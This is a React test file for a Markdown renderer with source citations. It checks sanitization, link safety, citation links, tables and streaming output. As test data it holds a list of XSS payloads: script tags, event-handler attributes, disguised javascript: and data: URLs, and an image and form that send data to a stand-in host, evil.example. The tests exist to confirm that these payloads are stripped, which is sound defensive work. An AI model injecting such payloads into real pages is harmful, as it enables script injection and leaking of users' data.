import { render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import type { ReactNode } from "react";
import { describe, expect, it, vi } from "vitest";
import { TooltipProvider } from "@/components/ui/tooltip";
import { Markdown } from "./markdown";
import { type Citation, SourcesContext } from "./sources";

const citation: Citation = {
  number: 1,
  document: { id: "d1", title: "Engine test handbook" },
  knowledge: "k1",
  version: 1,
  page: 37,
  heading: "5.3",
  start: 10,
  end: 40,
  text: "Brake thermal efficiency is the ratio",
};

function show(text: string, { open = () => undefined, writing = false }: { open?: (n: number) => void; writing?: boolean } = {}) {
  const sources = { citations: new Map([[1, citation]]), current: undefined, open };
  const wrap = (children: ReactNode) => (
    <TooltipProvider>
      <SourcesContext value={sources}>{children}</SourcesContext>
    </TooltipProvider>
  );
  const page = (next: string) => wrap(<Markdown text={next} known={new Set([1])} writing={writing} />);
  const view = render(page(text));
  return { ...view, write: (next: string) => view.rerender(page(next)) };
}

describe("Markdown", () => {
  const hostile = [
    { name: "a script", text: "<script>alert(1)</script>\n\nafter" },
    { name: "a picture with a handler", text: '<img src="x" onerror="alert(1)">\n\nafter' },
    { name: "inline HTML", text: "a <b onclick=alert(1)>b</b> <iframe src=//evil.example></iframe> after" },
    { name: "a script address", text: "[press](javascript:alert(1)) after" },
    { name: "a script address in disguise", text: "[press](&#106;avascript:alert(1)) [x](java\\script:alert(1)) after" },
    { name: "a data address", text: "[press](data:text/html;base64,PHNjcmlwdD4=) after" },
    { name: "a reference to a script address", text: "[press][a] after\n\n[a]: javascript:alert(1)" },
    { name: "a picture from elsewhere", text: "![p](https://evil.example/p.png?q=secret) after" },
    { name: "a picture with a data address", text: "![p](data:image/svg+xml,<svg/onload=alert(1)>) after" },
    { name: "a style", text: "<style>body{display:none}</style>\n\nafter" },
    { name: "a form", text: '<form action="https://evil.example"><button>go</button></form>\n\nafter' },
    { name: "a cite element of its own", text: "<cite title=1>1</cite> after" },
  ];
  for (const { name, text } of hostile) {
    it(`makes nothing of ${name}`, async () => {
      const { container } = show(text);
      await vi.dynamicImportSettled();
      expect(container.querySelectorAll("script, img, iframe, style, form, object, embed, link, svg image, cite, [onclick], [onerror]")).toHaveLength(0);
      for (const link of container.querySelectorAll("a")) expect(link.getAttribute("href")).toMatch(/^(https?:|mailto:|\/documents\/)/);
      expect(container).toHaveTextContent("after");
    });
  }

  it("opens links outside the page and tells the other side nothing", () => {
    show("[a](https://example.org/x) and [mail](mailto:a@example.org)");
    const link = screen.getByRole("link", { name: "a" });
    expect(link).toHaveAttribute("target", "_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
    expect(screen.getByRole("link", { name: "mail" })).toHaveAttribute("href", "mailto:a@example.org");
  });

  it("turns known numbers into keys and leaves the rest as text", async () => {
    const opened = vi.fn();
    const { container } = show("Work [1]. Not \\[1] and not [7], nor `[1]`.", { open: opened });
    const keys = screen.getAllByRole("link", { name: "Source 1: Engine test handbook, p. 37" });
    expect(keys).toHaveLength(1);
    expect(keys[0]).toHaveAttribute("href", "/documents/d1?from=10&to=40");
    expect(container).toHaveTextContent("Work1. Not [1] and not [7], nor [1].");
    await userEvent.click(keys[0] as HTMLElement);
    expect(opened).toHaveBeenCalledWith(1);
  });

  it("shows tables, code and lists with their roles", async () => {
    show("| a | b |\n|---|--:|\n| one | 2 |\n\n```go\nfunc main() {}\n```\n\n- x [1]");
    const table = within(await screen.findByRole("region", { name: "Table, scrolls sideways" })).getByRole("table");
    expect(within(table).getByRole("columnheader", { name: "a" })).toBeInTheDocument();
    expect(screen.getByText("func main() {}")).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "Copy the code" })).toBeInTheDocument();
    expect(screen.getByRole("listitem")).toHaveTextContent("x1");
  });

  it("does not touch finished blocks while more is written", async () => {
    const view = show("First block.\n\nSecond", { writing: true });
    const first = screen.getByText("First block.");
    const second = screen.getByText("Second");
    view.write("First block.\n\nSecond block.\n\n```\nopen fence");
    expect(screen.getByText("First block.")).toBe(first);
    expect(screen.getByText("Second block.")).toBe(second);
    expect(await screen.findByText("open fence")).toBeInTheDocument();
  });

  it("gives the same page for text that came in pieces and text that came whole", async () => {
    await import("./rich-block");
    const text = "# H\n\nPara **bold** [1].\n\n- a\n\n- b\n\n```\ncode\n\ncode\n```\n\n| a |\n|---|\n| [1] |\n";
    const pieces = show("");
    for (let i = 1; i <= text.length; i++) pieces.write(text.slice(0, i));
    const whole = show(text);
    expect(pieces.container.innerHTML.replaceAll(/radix-[^"]*/g, "")).toBe(whole.container.innerHTML.replaceAll(/radix-[^"]*/g, ""));
  });
});
